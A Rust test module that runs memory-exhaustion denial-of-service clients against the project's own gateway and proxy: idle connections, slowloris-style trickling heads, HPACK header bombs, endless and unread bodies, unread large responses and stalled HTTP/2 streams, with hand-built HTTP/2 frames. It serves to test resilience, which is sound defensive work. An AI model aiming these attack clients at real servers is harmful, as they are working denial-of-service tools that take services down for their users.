//! Unauthenticated clients that make a server allocate memory for them: an impersonation proxy, or
//! an ingress with a backend.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, Interest};
use tokio::net::{TcpSocket, TcpStream};
use tokio::sync::Semaphore;
use tokio::task::JoinSet;
use tokio_rustls::client::TlsStream;

use crate::own_thread::OwnThread;
use crate::wire;

/// Number of concurrent handshakes. The attack targets memory, not the processor.
const HANDSHAKES: usize = 8;
/// Pause of a client after its connection is closed or after it has sent all its data.
const PAUSE: Duration = Duration::from_secs(1);
/// Time for which a client keeps a connection open before it connects again. A server may close the
/// connection earlier.
const KEEP_OPEN: Duration = Duration::from_secs(20);
/// Number of concurrent requests of an HTTP/2 client that leaves them open.
const STREAMS: u32 = 100;
/// Of the clients that do not read responses, one in this number uses HTTP/2, the others HTTP/1.1.
const UNREAD_HTTP2: usize = 20;
/// Send buffer in bytes of clients that send without end. Otherwise, the kernel of the machine
/// enlarges it to several megabytes.
const SEND_BUFFER: u32 = 64 << 10;

/// The path of [`Attack::UnreadResponses`]. The response must be large.
pub const LARGE: &str = "/large";

/// The kinds of attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Opens connections and sends nothing after the TLS handshake.
    IdleConnections,
    /// Sends most of a request head and then one byte at a time: in HTTP/1.1, and in HTTP/2 as a
    /// header block that never ends.
    TricklingHeads,
    /// Sends as much of a body as flow control allows while the server reviews the client's token,
    /// or while the backend does not read it.
    UnreadBodies,
    /// Sends heads of a few kilobytes that decode to hundreds of kilobytes, and reads no response.
    HeaderBombs,
    /// Sends a body without end, over HTTP/2 as much as the first window allows. The backend must
    /// not read it.
    EndlessBodies,
    /// Requests [`LARGE`] responses and reads nothing: in HTTP/1.1 one response for each
    /// connection, in HTTP/2 many, with windows that are large enough for them.
    UnreadResponses,
    /// Sends many requests over each connection of HTTP/2. The backend must not answer them.
    WaitingRequests,
}

impl Attack {
    /// The attacks on a server that reviews the token of each request.
    pub const BEFORE_AUTHENTICATION: [Self; 4] =
        [Self::IdleConnections, Self::TricklingHeads, Self::UnreadBodies, Self::HeaderBombs];

    /// The attacks on an ingress, which forwards the requests of any client. The backend responds
    /// only to requests for [`LARGE`], and reads no body.
    pub const ON_INGRESS: [Self; 7] = [
        Self::IdleConnections,
        Self::TricklingHeads,
        Self::UnreadBodies,
        Self::HeaderBombs,
        Self::EndlessBodies,
        Self::UnreadResponses,
        Self::WaitingRequests,
    ];

    /// Returns the number of clients.
    fn clients(self) -> usize {
        match self {
            // More than an unprotected server survives with the memory limit of the Concierge
            // (256Mi): the kernel killed one at 7,938 connections. The limit of the gateway is
            // twice as high; there, the attack only checks that other clients are still served.
            Self::IdleConnections => 9000,
            Self::TricklingHeads => 2000,
            // Each request makes the server ask for a review.
            Self::UnreadBodies => 100,
            Self::HeaderBombs => 400,
            // With the memory limit of the gateway (512Mi), 3,000 were enough for a server that
            // does not limit the bodies in transit.
            Self::EndlessBodies => 5200,
            // The backend has a connection for each request: 60 clients with 100 requests, and 1140
            // with one.
            Self::UnreadResponses => 1200,
            // With 100 requests each. A process may have some 20,000 open files.
            Self::WaitingRequests => 90,
        }
    }

    /// Returns whether a client uses HTTP/1.1.
    fn is_http1(self, number: usize) -> bool {
        match self {
            Self::IdleConnections | Self::UnreadBodies | Self::HeaderBombs | Self::WaitingRequests => false,
            Self::TricklingHeads => number.is_multiple_of(2),
            Self::EndlessBodies => number.is_multiple_of(2),
            Self::UnreadResponses => !number.is_multiple_of(UNREAD_HTTP2),
        }
    }

    async fn connect(self, server: SocketAddr) -> std::io::Result<TcpStream> {
        let socket = if server.is_ipv4() { TcpSocket::new_v4() } else { TcpSocket::new_v6() }?;
        if self == Self::EndlessBodies {
            socket.set_send_buffer_size(SEND_BUFFER)?;
        }
        socket.connect(server).await
    }

    async fn client(
        self,
        number: usize,
        server: SocketAddr,
        name: &str,
        turn: &Semaphore,
        opened: &AtomicUsize,
    ) -> anyhow::Result<()> {
        let is_http1 = self.is_http1(number);
        let alpn: &[u8] = if is_http1 { b"http/1.1" } else { b"h2" };
        let mut stream = {
            let _turn = turn.acquire().await?;
            let tcp = self.connect(server).await?;
            wire::connect_unverified(tcp, name, &[alpn], None).await?
        };
        opened.fetch_add(1, Ordering::Relaxed);
        match self {
            Self::IdleConnections => until_ended(&mut stream).await?,
            Self::TricklingHeads if is_http1 => {
                let mut head = format!("GET / HTTP/1.1\r\nHost: {name}\r\nX-Big: ").into_bytes();
                head.resize(60 << 10, b'x');
                stream.write_all(&head).await?;
                trickle(&mut stream).await?;
            }
            Self::TricklingHeads => {
                stream.write_all(&opening(&[])).await?;
                stream.write_all(&frame(HEADERS, 0, 1, &bomb(name))).await?;
                stream.write_all(&frame(CONTINUATION, 0, 1, &[])[..8]).await?;
                until_ended(&mut stream).await?;
            }
            Self::UnreadBodies => {
                stream.write_all(&opening(&[])).await?;
                for request in 0..64 {
                    let id = 2 * request + 1;
                    let mut block = fields(POST, "/", name);
                    // Every request uses a new token; the server would answer a repeated one from
                    // its cache.
                    let now = std::time::UNIX_EPOCH.elapsed()?.as_nanos();
                    let token = format!("Bearer {number}-{request}-{now}");
                    // `authorization` by its index (RFC 7541, appendix A), never to be indexed.
                    block.extend([0x1f, 23 - 15]);
                    block.push(u8::try_from(token.len())?);
                    block.extend(token.as_bytes());
                    stream.write_all(&frame(HEADERS, END_HEADERS, id, &block)).await?;
                    // One stream's window, and a part of the connection's window.
                    for _ in 0..4 {
                        stream.write_all(&frame(DATA, 0, id, &[b'x'; 16_000])).await?;
                    }
                    tokio::time::sleep(PAUSE).await;
                }
            }
            Self::HeaderBombs => {
                stream.write_all(&opening(&[])).await?;
                for request in 0..1000 {
                    let id = 2 * request + 1;
                    stream.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, id, &bomb(name))).await?;
                }
                until_ended(&mut stream).await?;
            }
            Self::EndlessBodies if !is_http1 => {
                stream.write_all(&opening(&[])).await?;
                let block = fields(POST, "/", name);
                stream.write_all(&frame(HEADERS, END_HEADERS, 1, &block)).await?;
                for _ in 0..4 {
                    stream.write_all(&frame(DATA, 0, 1, &[b'x'; 16_000])).await?;
                }
                stream.flush().await?;
                let _still_open = tokio::time::timeout(KEEP_OPEN, until_reset(&mut stream)).await;
            }
            Self::EndlessBodies => {
                let head =
                    format!("POST / HTTP/1.1\r\nHost: {name}\r\nContent-Length: {}\r\n\r\n", 1_u64 << 40);
                stream.write_all(head.as_bytes()).await?;
                loop {
                    stream.write_all(&[b'x'; 16 << 10]).await?;
                }
            }
            Self::UnreadResponses => {
                if is_http1 {
                    let head = format!("GET {LARGE} HTTP/1.1\r\nHost: {name}\r\n\r\n");
                    stream.write_all(head.as_bytes()).await?;
                } else {
                    stream.write_all(&requests(LARGE, name)).await?;
                }
                stream.flush().await?;
                // The server may wait for the client without a time limit.
                let _still_open = tokio::time::timeout(KEEP_OPEN, until_reset(&mut stream)).await;
            }
            Self::WaitingRequests => {
                stream.write_all(&requests("/", name)).await?;
                stream.flush().await?;
                let _still_open = tokio::time::timeout(KEEP_OPEN, until_reset(&mut stream)).await;
            }
        }
        Ok(())
    }
}

/// A running attack. Dropping this value stops it.
#[derive(Debug)]
pub struct Attackers {
    clients: usize,
    opened: Arc<AtomicUsize>,
    /// The clients have a thread of their own. On the test's thread, the client whose requests are
    /// measured would wait for thousands of their tasks, and not only for the server.
    _thread: OwnThread,
}

impl Attackers {
    /// Starts the clients against a server with this name, in the network of this thread.
    ///
    /// # Errors
    /// Returns an error when the thread of the clients cannot be started.
    pub fn start(attack: Attack, server: SocketAddr, name: &'static str) -> std::io::Result<Self> {
        let opened = Arc::new(AtomicUsize::new(0));
        let of_clients = Arc::clone(&opened);
        let thread = OwnThread::start("attackers", move || run(attack, server, name, of_clients))?;
        Ok(Self { clients: attack.clients(), opened, _thread: thread })
    }

    /// Returns whether there have been at least as many connections as clients.
    pub fn have_arrived(&self) -> bool {
        self.opened() >= self.clients
    }

    /// Number of connections that have completed the TLS handshake so far.
    pub fn opened(&self) -> usize {
        self.opened.load(Ordering::Relaxed)
    }
}

/// Runs all clients of an attack until one panics.
async fn run(attack: Attack, server: SocketAddr, name: &'static str, opened: Arc<AtomicUsize>) {
    let turn = Arc::new(Semaphore::new(HANDSHAKES));
    let mut clients = JoinSet::new();
    for number in 0..attack.clients() {
        let (turn, opened) = (Arc::clone(&turn), Arc::clone(&opened));
        clients.spawn(async move {
            loop {
                // The server may refuse the connection; that is the wanted behaviour.
                let _ended = attack.client(number, server, name, &turn, &opened).await;
                tokio::time::sleep(PAUSE).await;
            }
        });
    }
    if let Some(Err(panic)) = clients.join_next().await {
        std::panic::resume_unwind(panic.into_panic());
    }
}

/// Waits until the server closes the connection, without reading.
async fn until_ended(stream: &mut TlsStream<TcpStream>) -> anyhow::Result<()> {
    let (tcp, _) = stream.get_mut();
    while !tcp.ready(Interest::READABLE).await?.is_read_closed() {
        // The socket has bytes, which the client does not read.
        tokio::time::sleep(PAUSE).await;
    }
    Ok(())
}

/// Waits until the server resets the connection, without reading. A client that noticed each end
/// would connect again at once, and for each connection the backend, which is part of the test,
/// holds another socket until it notices that the gateway has closed it.
async fn until_reset(stream: &mut TlsStream<TcpStream>) -> anyhow::Result<()> {
    let (tcp, _) = stream.get_mut();
    loop {
        tcp.readable().await?;
        let mut byte = [0];
        if tcp.peek(&mut byte).await? == 0 {
            return Ok(());
        }
        tokio::time::sleep(PAUSE).await;
    }
}

async fn trickle(stream: &mut TlsStream<TcpStream>) -> anyhow::Result<()> {
    let mut response = [0; 1];
    loop {
        stream.write_all(b"x").await?;
        if tokio::time::timeout(PAUSE, stream.read(&mut response)).await.is_ok() {
            return Ok(());
        }
    }
}

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const SETTINGS: u8 = 4;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
/// The window of a new connection, and the largest window (RFC 9113, section 6.9).
const FIRST_WINDOW: u32 = 65_535;
const MAX_WINDOW: u32 = (1 << 31) - 1;
/// The content of a SETTINGS frame: `SETTINGS_INITIAL_WINDOW_SIZE` is [`MAX_WINDOW`].
const MAX_STREAM_WINDOWS: [u8; 6] = [0, 4, 0x7f, 0xff, 0xff, 0xff];
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// The pseudo-header field `:method` from the static table (RFC 7541, appendix A).
const GET: u8 = 0x82;
const POST: u8 = 0x83;

fn opening(settings: &[u8]) -> Vec<u8> {
    let mut opening = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    opening.extend(frame(SETTINGS, 0, 0, settings));
    opening
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let size = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    let mut frame = vec![size[1], size[2], size[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// `:method`, `:scheme` (https), `:path` and `:authority`. The last two are literals without
/// indexing.
fn fields(method: u8, path: &str, name: &str) -> Vec<u8> {
    let mut block = vec![method, 0x87];
    for (index, text) in [(4, path), (1, name)] {
        block.extend([index, u8::try_from(text.len()).unwrap_or_default()]);
        block.extend(text.as_bytes());
    }
    block
}

/// Returns the requests of an HTTP/2 connection for this path, and windows for all responses.
fn requests(path: &str, name: &str) -> Vec<u8> {
    let mut requests = opening(&MAX_STREAM_WINDOWS);
    let more = MAX_WINDOW - FIRST_WINDOW;
    requests.extend(frame(WINDOW_UPDATE, 0, 0, &more.to_be_bytes()));
    let block = fields(GET, path, name);
    for request in 0..STREAMS {
        requests.extend(frame(HEADERS, END_HEADERS | END_STREAM, 2 * request + 1, &block));
    }
    requests
}

/// Returns a header block that adds one field to the dynamic table and then refers to it once per
/// octet, up to 64 KiB of decoded fields.
fn bomb(name: &str) -> Vec<u8> {
    let mut block = fields(GET, "/", name);
    block.extend([0x40, 1, b'a', 1, b'b']);
    block.resize(block.len() + 1800, 0xbe);
    block
}

#[cfg(test)]
mod tests {
    use std::convert::Infallible;

    use http::{Request, Response};
    use hyper::body::Incoming;
    use hyper::server::conn::http2;
    use hyper::service::service_fn;
    use hyper_util::rt::{TokioExecutor, TokioIo};
    use tokio::sync::mpsc;

    use super::*;

    #[tokio::test]
    async fn a_server_receives_all_requests_of_a_client_that_reads_nothing() {
        let (mut client, server) = tokio::io::duplex(64 << 10);
        let (sender, mut received) = mpsc::unbounded_channel();
        let mut tasks = JoinSet::new();
        tasks.spawn(async move {
            let service = service_fn(move |request: Request<Incoming>| {
                let _test_ended = sender.send(request.uri().to_string());
                async { Ok::<_, Infallible>(Response::new(String::new())) }
            });
            let http = http2::Builder::new(TokioExecutor::new());
            let _ended = http.serve_connection(TokioIo::new(server), service).await;
        });
        client.write_all(&requests(LARGE, "attacked.example.com")).await.unwrap();
        for _ in 0..STREAMS {
            let received = tokio::time::timeout(Duration::from_secs(30), received.recv());
            assert_eq!(received.await.unwrap().unwrap(), "https://attacked.example.com/large");
        }
    }
}
